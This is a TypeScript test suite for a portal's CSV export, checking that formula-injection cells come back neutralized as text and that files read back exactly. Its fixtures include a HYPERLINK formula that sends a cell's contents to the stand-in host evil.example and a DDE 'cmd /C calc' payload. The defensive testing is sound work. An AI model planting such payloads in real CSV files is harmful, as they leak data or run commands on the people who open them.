// The portal's one CSV writer: cells a spreadsheet would run as a formula come back as text, and every
// file reads back, cell for cell, with the same parser the import uses (csv-parse).
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvCell, csvFile } from '../../shared/csv';
import { errorLogCsv } from '../../shared/imports';

const readBack = (text: string) => parse(text, { bom: true }) as string[][];

describe('CSV writer', () => {
  it.each([
    ['=HYPERLINK("https://evil.example","clique")', `"'=HYPERLINK(""https://evil.example"",""clique"")"`],
    ['+cmd|" /C calc"!A0', `"'+cmd|"" /C calc""!A0"`],
    ['-2+3', "'-2+3"],
    ['@SUM(1+1)', "'@SUM(1+1)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
  ])('neutralizes %j with a leading quote', (value, written) => expect(csvCell(value)).toBe(written));

  it('leaves ordinary cells alone and quotes what RFC 4180 quotes (and the semicolon)', () => {
    expect(csvCell('100001')).toBe('100001');
    expect(csvCell('Título muito longo')).toBe('Título muito longo');
    expect(csvCell('a,"b"')).toBe('"a,""b"""');
    expect(csvCell('Slug já em uso; publicado como x-1')).toBe('"Slug já em uso; publicado como x-1"');
    expect(csvCell('linha 1\nlinha 2')).toBe('"linha 1\nlinha 2"');
    expect(csvCell('1=1')).toBe('1=1');
  });

  it('reads back cell for cell, every dangerous cell as text', () => {
    const rows = [
      ['=HYPERLINK("https://evil.example","clique")', 'Título obrigatório'],
      ['+cmd|" /C calc"!A0', 'a,"b"; c'],
      ['@x', '-1'],
      ['\tx', '\r\nquebra'],
      ['7', 'Conteúdo obrigatório'],
    ];
    const back = readBack(csvFile(['record_id', 'error'], rows));
    expect(back[0]).toEqual(['record_id', 'error']);
    expect(back.slice(1)).toEqual(rows.map((row) => row.map((cell) => (/^[=+\-@\t\r]/.test(cell) ? `'${cell}` : cell))));
    for (const cell of back.slice(1).flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("is the import's error log: a record_id of =HYPERLINK(...) comes back neutralized", () => {
    const log = errorLogCsv([
      { record_id: '=HYPERLINK("https://evil.example/?x="&A1,"clique")', error: 'Título obrigatório' },
      { record_id: '42', error: 'Slug já em uso; publicado como x-1' },
    ]);
    expect(readBack(log)).toEqual([
      ['record_id', 'error'],
      ['\'=HYPERLINK("https://evil.example/?x="&A1,"clique")', 'Título obrigatório'],
      ['42', 'Slug já em uso; publicado como x-1'],
    ]);
  });
});
